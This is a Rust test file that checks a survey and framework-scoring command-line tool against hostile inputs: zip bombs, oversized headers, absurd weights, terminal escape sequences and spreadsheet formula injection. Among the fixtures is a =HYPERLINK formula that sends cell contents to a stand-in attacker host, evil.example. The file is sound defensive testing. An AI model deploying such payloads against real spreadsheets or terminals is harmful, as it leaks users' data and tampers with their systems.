//! Hostile input files against the command line: a dense-range workbook, a zip bomb, a
//! shared-strings count that sizes an allocation, a 150,000-column header, 100,000 distinct
//! units, weights of 1e308 and NaN, terminal escape sequences, formula cells. Every file that
//! cannot be read ends with exit code 1 and a message naming the limit it hit, within bounded
//! time and memory: each run's peak resident memory is measured (`/usr/bin/time -f %M` when
//! present, else the child's `VmHWM` polled from `/proc`). The files come from
//! `chiso_interchange::hostile`, generated once per run.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use chiso_interchange::csv_out::is_plain_number;
use chiso_interchange::hostile;

/// Generous bounds: the point is that nothing grows with what the file claims.
const MAX_SECONDS: f64 = 20.0;
const MAX_PEAK_KB: u64 = 300 * 1024;

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/compute")
}

/// A test's folder of generated files, removed when the test ends.
struct Scratch(PathBuf);

impl Scratch {
    fn new(test: &str) -> Scratch {
        let dir = std::env::temp_dir().join(format!("chiso-hostile-{}-{test}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Scratch(dir)
    }

    /// Writes `bytes` as `name` and returns its path.
    fn file(&self, name: &str, bytes: Vec<u8>) -> String {
        let path = self.0.join(name);
        std::fs::write(&path, bytes).unwrap();
        path.to_string_lossy().into_owned()
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn sipas_items() -> Vec<String> {
    chiso_survey::bundled("sipas-2017")
        .unwrap()
        .items
        .iter()
        .map(|i| i.code.clone())
        .collect()
}

fn sipas_header() -> Vec<String> {
    let items = sipas_items();
    let items: Vec<&str> = items.iter().map(String::as_str).collect();
    hostile::responses_header(&items)
}

const SCORES_HEADER: [&str; 3] = ["unit_code", "code", "points"];
const FRAMEWORK_HEADER: [&str; 4] = ["code", "title", "max_points", "method"];

/// One run of the binary: exit code, outputs, wall time and peak resident memory.
struct Run {
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: String,
    seconds: f64,
    peak_kb: u64,
}

impl Run {
    fn describe(&self) -> String {
        format!(
            "exit {:?} in {:.2} s, peak {} KB; stderr: {}",
            self.code,
            self.seconds,
            self.peak_kb,
            self.stderr.chars().take(600).collect::<String>()
        )
    }

    /// Exit code 1, the message, and the bounds on time and memory.
    fn assert_refused(&self, message: &str) {
        assert_eq!(self.code, Some(1), "{}", self.describe());
        assert!(
            self.stderr.contains(message),
            "expected «{message}»: {}",
            self.describe()
        );
        self.assert_bounded();
    }

    fn assert_bounded(&self) {
        assert!(self.seconds < MAX_SECONDS, "{}", self.describe());
        assert!(self.peak_kb < MAX_PEAK_KB, "{}", self.describe());
    }
}

fn time_program() -> Option<&'static str> {
    let path = "/usr/bin/time";
    Path::new(path).exists().then_some(path)
}

/// Runs `chiso args` and measures it.
fn chiso(args: &[&str]) -> Run {
    let binary = env!("CARGO_BIN_EXE_chiso");
    let peak_file = std::env::temp_dir().join(format!(
        "chiso-hostile-peak-{}-{:?}",
        std::process::id(),
        std::thread::current().id()
    ));
    let mut command = match time_program() {
        Some(time) => {
            let mut command = Command::new(time);
            command
                .arg("-f")
                .arg("%M")
                .arg("-o")
                .arg(&peak_file)
                .arg(binary);
            command
        }
        None => Command::new(binary),
    };
    let started = Instant::now();
    let mut child = command
        .args(args)
        .current_dir(std::env::temp_dir())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("chiso runs");
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let stdout = std::thread::spawn(move || {
        let mut bytes = Vec::new();
        let _ = out.read_to_end(&mut bytes);
        bytes
    });
    let stderr = std::thread::spawn(move || {
        let mut bytes = Vec::new();
        let _ = err.read_to_end(&mut bytes);
        bytes
    });
    // Without /usr/bin/time, poll the child's high-water mark while it runs.
    let mut polled = 0u64;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if time_program().is_none() {
            polled = polled.max(high_water_kb(child.id()).unwrap_or(0));
        }
        if started.elapsed() > Duration::from_secs(120) {
            let _ = child.kill();
            panic!("chiso {args:?} ran for two minutes");
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    let seconds = started.elapsed().as_secs_f64();
    let peak_kb = match time_program() {
        Some(_) => std::fs::read_to_string(&peak_file)
            .ok()
            .and_then(|text| text.lines().last()?.trim().parse().ok())
            .expect("/usr/bin/time wrote the peak"),
        None => polled,
    };
    let _ = std::fs::remove_file(&peak_file);
    Run {
        code: status.code(),
        stdout: stdout.join().unwrap(),
        stderr: String::from_utf8_lossy(&stderr.join().unwrap()).into_owned(),
        seconds,
        peak_kb,
    }
}

/// `VmHWM` of a running process, in KB.
fn high_water_kb(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// The four commands that read a table, each given `file` where a hostile file can go: a
/// survey's responses, compute's scores and framework, framework validate.
fn against_every_reader(responses: &str, scores: &str, framework: &str, check: impl Fn(&str, Run)) {
    let good_framework = fixtures().join("framework.csv");
    let good_framework = good_framework.to_str().unwrap();
    let good_scores = fixtures().join("scores.csv");
    let good_scores = good_scores.to_str().unwrap();
    check(
        "survey index",
        chiso(&[
            "survey",
            "index",
            "--questionnaire",
            "sipas-2017",
            "--responses",
            responses,
        ]),
    );
    check(
        "compute --scores",
        chiso(&["compute", "--framework", good_framework, "--scores", scores]),
    );
    check(
        "compute --framework",
        chiso(&["compute", "--framework", framework, "--scores", good_scores]),
    );
    check(
        "framework validate",
        chiso(&["framework", "validate", framework]),
    );
}

fn strs(items: &[String]) -> Vec<&str> {
    items.iter().map(String::as_str).collect()
}

#[test]
fn a_dense_range_workbook_is_refused_naming_the_column_limit() {
    let dir = Scratch::new("a-dense-range-workbook-i");
    let sipas = sipas_header();
    let responses = dir.file("dense-responses.xlsx", {
        hostile::dense_range_xlsx(&strs(&sipas))
    });
    let scores = dir.file("dense-scores.xlsx", {
        hostile::dense_range_xlsx(&SCORES_HEADER)
    });
    let framework = dir.file("dense-framework.xlsx", {
        hostile::dense_range_xlsx(&FRAMEWORK_HEADER)
    });
    against_every_reader(&responses, &scores, &framework, |command, run| {
        eprintln!("dense range, {command}: {}", run.describe());
        run.assert_refused("row 1048576: more than 1,000 columns, the limit of a file");
    });
}

#[test]
fn a_zip_bomb_is_refused_before_it_is_parsed() {
    let dir = Scratch::new("a-zip-bomb-is-refused-be");
    // 300 MB of XML in about 3 MB.
    let sipas = sipas_header();
    let bomb = |header: &[&str]| hostile::xlsx_bomb(300 << 20, header, "5");
    let responses = dir.file("bomb-responses.xlsx", bomb(&strs(&sipas)));
    let scores = dir.file("bomb-scores.xlsx", bomb(&SCORES_HEADER));
    let framework = dir.file("bomb-framework.xlsx", bomb(&FRAMEWORK_HEADER));
    assert!(std::fs::metadata(&responses).unwrap().len() < 16 << 20);
    against_every_reader(&responses, &scores, &framework, |command, run| {
        eprintln!("zip bomb, {command}: {}", run.describe());
        run.assert_refused("the workbook unpacks to more than 256 MiB, the limit");
    });
}

#[test]
fn a_declared_count_of_shared_strings_is_not_trusted() {
    let dir = Scratch::new("a-declared-count-of-shar");
    let path = dir.file("strings.xlsx", {
        hostile::shared_strings_count_xlsx(1 << 40)
    });
    against_every_reader(&path, &path, &path, |command, run| {
        eprintln!("shared strings count, {command}: {}", run.describe());
        run.assert_refused("the shared strings declare more than 10,000,000 entries");
    });
}

#[test]
fn a_150k_column_header_is_refused_at_once() {
    let dir = Scratch::new("a-150k-column-header-is");
    let sipas = sipas_header();
    let responses = dir.file("wide-responses.csv", {
        hostile::wide_header_csv(&strs(&sipas), 150_000)
    });
    let scores = dir.file("wide-scores.csv", {
        hostile::wide_header_csv(&SCORES_HEADER, 150_000)
    });
    let framework = dir.file("wide-framework.csv", {
        hostile::wide_header_csv(&FRAMEWORK_HEADER, 150_000)
    });
    against_every_reader(&responses, &scores, &framework, |command, run| {
        eprintln!("150k-column CSV header, {command}: {}", run.describe());
        run.assert_refused("row 1: the header row is longer than 64 KiB, the limit");
        assert!(run.seconds < 5.0, "{}", run.describe());
    });
    let responses = dir.file("wide-responses.xlsx", {
        hostile::wide_header_xlsx(&strs(&sipas), 150_000)
    });
    let scores = dir.file("wide-scores.xlsx", {
        hostile::wide_header_xlsx(&SCORES_HEADER, 150_000)
    });
    let framework = dir.file("wide-framework.xlsx", {
        hostile::wide_header_xlsx(&FRAMEWORK_HEADER, 150_000)
    });
    against_every_reader(&responses, &scores, &framework, |command, run| {
        eprintln!("150k-column .xlsx header, {command}: {}", run.describe());
        run.assert_refused("row 1: more than 1,000 columns, the limit of a file");
    });
}

#[test]
fn too_many_distinct_units_are_refused_naming_the_limit_and_the_row() {
    let dir = Scratch::new("too-many-distinct-units");
    let items = sipas_items();
    let responses = dir.file("units-responses.csv", {
        hostile::many_units_responses_csv(&strs(&items), 100_000)
    });
    let run = chiso(&[
        "survey",
        "index",
        "--questionnaire",
        "sipas-2017",
        "--responses",
        &responses,
        "--format",
        "json",
    ]);
    eprintln!("100,000 survey units: {}", run.describe());
    run.assert_refused(
        "row 10002: unit U10000 is one unit more than the limit of 10,000 distinct units",
    );
    let scores = dir.file("units-scores.csv", {
        hostile::many_units_scores_csv("1.1", "6", 100_000)
    });
    let framework = fixtures().join("framework.csv");
    let run = chiso(&[
        "compute",
        "--framework",
        framework.to_str().unwrap(),
        "--scores",
        &scores,
        "--format",
        "json",
    ]);
    eprintln!("100,000 scored units: {}", run.describe());
    run.assert_refused(
        "row 20002: unit U20000 is one unit more than the limit of 20,000 distinct units",
    );
    // A big framework lowers the number of units: units × nodes is what costs.
    let scores = dir.file("units-par-scores.csv", {
        hostile::many_units_scores_csv("1.1.1", "0.5", 100_000)
    });
    let run = chiso(&[
        "compute",
        "--framework",
        "par-province-2020",
        "--scores",
        &scores,
    ]);
    eprintln!("100,000 scored units, 147 nodes: {}", run.describe());
    run.assert_refused("units × nodes at most 2,000,000");
}

#[test]
fn weights_that_are_not_finite_or_absurd_are_refused_naming_the_row() {
    let dir = Scratch::new("weights-that-are-not-fin");
    let items = sipas_items();
    let mut rows = vec![sipas_header()];
    for (i, weight) in hostile::HOSTILE_WEIGHTS.iter().enumerate() {
        rows.push(hostile::responses_row(
            "01",
            &format!("r{i}"),
            "paper",
            weight,
            items.len(),
            "5",
        ));
    }
    let responses = dir.file("weights.csv", hostile::csv_of(&rows));
    let run = chiso(&[
        "survey",
        "index",
        "--questionnaire",
        "sipas-2017",
        "--responses",
        &responses,
        "--format",
        "json",
    ]);
    run.assert_bounded();
    assert_eq!(run.code, Some(0), "{}", run.describe());
    for (row, reason) in [
        (
            2,
            "weight: 1e308 is above the largest weight allowed, 1000000",
        ),
        (3, "weight: NaN is not > 0"),
        (4, "weight: inf is not > 0"),
        (5, "weight: -inf is not > 0"),
        (6, "weight: 1e309 is not > 0"),
        (
            7,
            "weight: 1e300 is above the largest weight allowed, 1000000",
        ),
    ] {
        let line = format!("row {row}: {reason} (row skipped)");
        assert!(run.stderr.contains(&line), "{line}: {}", run.describe());
    }
    let report: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
    assert_eq!(report["accepted"], 0);
    assert_eq!(report["rejected"].as_array().unwrap().len(), 6);
    // --strict makes any of them an error.
    let run = chiso(&[
        "survey",
        "index",
        "--questionnaire",
        "sipas-2017",
        "--responses",
        &responses,
        "--strict",
    ]);
    run.assert_refused("row 2: weight: 1e308 is above the largest weight allowed, 1000000");
}

/// No terminal control character of the input reaches the terminal raw.
fn assert_no_raw_controls(text: &[u8], what: &str) {
    let text = String::from_utf8_lossy(text);
    let raw: Vec<char> = text
        .chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect();
    assert!(raw.is_empty(), "{what} holds raw {raw:?}: {text}");
}

#[test]
fn escape_sequences_from_input_files_are_shown_not_run() {
    let dir = Scratch::new("escape-sequences-from-in");
    let items = sipas_items();
    let mut rows = vec![sipas_header()];
    for (i, text) in hostile::CONTROL_TEXTS.iter().enumerate() {
        // As a unit code (accepted, shown in the table) and as an answer (rejected, quoted in
        // the warning).
        rows.push(hostile::responses_row(
            text,
            &format!("a{i}"),
            "paper",
            "1",
            items.len(),
            "5",
        ));
        rows.push(hostile::responses_row(
            "01",
            &format!("b{i}"),
            "paper",
            "1",
            items.len(),
            text,
        ));
    }
    let responses = dir.file("controls.csv", hostile::csv_of(&rows));
    let run = chiso(&[
        "survey",
        "index",
        "--questionnaire",
        "sipas-2017",
        "--responses",
        &responses,
    ]);
    assert_eq!(run.code, Some(0), "{}", run.describe());
    assert_no_raw_controls(run.stderr.as_bytes(), "survey index warnings");
    assert_no_raw_controls(&run.stdout, "survey index table");
    assert!(
        run.stderr
            .contains("value \\u{1b}[31mĐỎ\\u{1b}[0m is not 1-5")
    );
    assert!(String::from_utf8_lossy(&run.stdout).contains("\\u{1b}]0;pwned\\u{7}"));

    // compute: an error quoting a code, and a table showing a unit's name.
    let scores = dir.file("controls-scores.csv", {
        hostile::csv_of(&[
            SCORES_HEADER.map(String::from).to_vec(),
            vec!["79".into(), "\u{1b}]0;pwned\u{7}".into(), "1".into()],
        ])
    });
    let framework = fixtures().join("framework.csv");
    let framework = framework.to_str().unwrap();
    let run = chiso(&["compute", "--framework", framework, "--scores", &scores]);
    assert_eq!(run.code, Some(1), "{}", run.describe());
    assert_no_raw_controls(run.stderr.as_bytes(), "compute error");
    assert!(
        run.stderr
            .contains("code \\u{1b}]0;pwned\\u{7} is not in the framework")
    );
    let units = dir.file("controls-units.csv", {
        units_named(&[("79", "\u{1b}[2J\u{1b}[HThành phố")])
    });
    let good_scores = fixtures().join("scores.csv");
    let run = chiso(&[
        "compute",
        "--framework",
        framework,
        "--scores",
        good_scores.to_str().unwrap(),
        "--units",
        &units,
    ]);
    assert_eq!(run.code, Some(0), "{}", run.describe());
    assert_no_raw_controls(&run.stdout, "compute table");
    assert!(String::from_utf8_lossy(&run.stdout).contains("\\u{1b}[2J\\u{1b}[HThành phố"));
}

/// survey index --format csv: unit codes that are formulas.
#[test]
fn formula_unit_codes_are_neutralised_in_survey_csv() {
    let dir = Scratch::new("formula-codes");
    let items = sipas_items();
    let mut rows = vec![sipas_header()];
    for (i, formula) in hostile::FORMULAS.iter().enumerate() {
        rows.push(hostile::responses_row(
            formula,
            &format!("r{i}"),
            "paper",
            "1",
            items.len(),
            "4",
        ));
    }
    let responses = dir.file("formulas.csv", hostile::csv_of(&rows));
    let run = chiso(&[
        "survey",
        "index",
        "--questionnaire",
        "sipas-2017",
        "--responses",
        &responses,
        "--format",
        "csv",
    ]);
    assert_eq!(run.code, Some(0), "{}", run.describe());
    let output = String::from_utf8(run.stdout.clone()).unwrap();
    let codes = column_cells(&output, 1);
    // The reader trims a leading TAB from a code, so compare what a spreadsheet would run.
    for code in &codes {
        let runs = code.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(code);
        assert!(!runs, "{code:?} would run as a formula: {output}");
    }
    let guarded = codes.iter().filter(|c| c.starts_with('\'')).count();
    assert_eq!(guarded, hostile::FORMULAS.len(), "{codes:?}");
    assert!(
        codes.contains(&format!("'{}", hostile::FORMULAS[0])),
        "{codes:?}"
    );
    // Numbers stay numbers: every index is a plain number (or blank).
    for index in column_cells(&output, 4) {
        assert!(index.is_empty() || is_plain_number(&index), "{index:?}");
    }
}

#[test]
fn formula_unit_names_are_neutralised_in_compute_csv() {
    let dir = Scratch::new("formula-names");
    let units = dir.file("formula-units.csv", {
        units_named(&[("79", hostile::FORMULAS[0]), ("01", hostile::FORMULAS[2])])
    });
    let framework = fixtures().join("framework.csv");
    let framework = framework.to_str().unwrap();
    let good_scores = fixtures().join("scores.csv");
    let run = chiso(&[
        "compute",
        "--framework",
        framework,
        "--scores",
        good_scores.to_str().unwrap(),
        "--units",
        &units,
        "--format",
        "csv",
    ]);
    assert_eq!(run.code, Some(0), "{}", run.describe());
    let output = String::from_utf8(run.stdout.clone()).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(output.as_bytes());
    let header = reader.headers().unwrap().clone();
    let name = header.iter().position(|h| h == "unit_name").unwrap();
    let index = header.iter().position(|h| h == "index").unwrap();
    let names: Vec<String> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            // The index of every unit is a plain number, never behind a quote.
            assert!(r[index].parse::<f64>().is_ok(), "{:?}", &r[index]);
            r[name].to_string()
        })
        .collect();
    assert!(
        names.contains(&format!("'{}", hostile::FORMULAS[0])),
        "{names:?}"
    );
    assert!(
        names.contains(&format!("'{}", hostile::FORMULAS[2])),
        "{names:?}"
    );
}

/// framework export → read again: titles that are formulas go out neutralised and come back
/// exactly.
#[test]
fn formula_titles_go_out_neutralised_and_come_back_exactly() {
    let dir = Scratch::new("formula-titles");
    let source = std::fs::read_to_string(fixtures().join("framework.csv")).unwrap();
    let hostile_framework = source.replacen(
        "Công tác chỉ đạo điều hành cải cách hành chính",
        "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Bấm\"\")\"",
        1,
    );
    let path = dir.file("formula-framework.csv", hostile_framework.into_bytes());
    let exported = chiso(&["framework", "export", &path, "--format", "csv"]);
    assert_eq!(exported.code, Some(0), "{}", exported.describe());
    let text = String::from_utf8(exported.stdout.clone()).unwrap();
    assert!(text.contains("\"'=HYPERLINK("), "{text}");
    let round = dir.file("formula-framework-exported.csv", exported.stdout.clone());
    let again = chiso(&["framework", "export", &round, "--format", "csv"]);
    assert_eq!(
        String::from_utf8(again.stdout).unwrap(),
        text,
        "export → import → export changes nothing"
    );
}

/// The fixture's units.csv with some units renamed.
fn units_named(names: &[(&str, &str)]) -> Vec<u8> {
    let text = std::fs::read_to_string(fixtures().join("units.csv")).unwrap();
    let mut rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    for row in &mut rows {
        if let Some((_, name)) = names.iter().find(|(code, _)| *code == row[0]) {
            row[1] = name.to_string();
        }
    }
    hostile::csv_of(&rows)
}

/// The cells of column `column` after the header.
fn column_cells(csv_text: &str, column: usize) -> Vec<String> {
    csv::ReaderBuilder::new()
        .from_reader(csv_text.as_bytes())
        .records()
        .map(|r| r.unwrap()[column].to_string())
        .collect()
}

#[test]
fn a_framework_of_too_many_nodes_is_refused_naming_the_limit() {
    let dir = Scratch::new("framework-nodes");
    let mut text = String::from("code,title,max_points,method\n1,Khu vực,6001,self\n");
    for i in 1..=6_001 {
        text.push_str(&format!("1.{i},Tiêu chí {i},1,\n"));
    }
    let framework = dir.file("framework.csv", text.into_bytes());
    let run = chiso(&["framework", "validate", &framework]);
    run.assert_refused("has 6,002 nodes, more than the limit of 5,000 nodes in a framework");
}
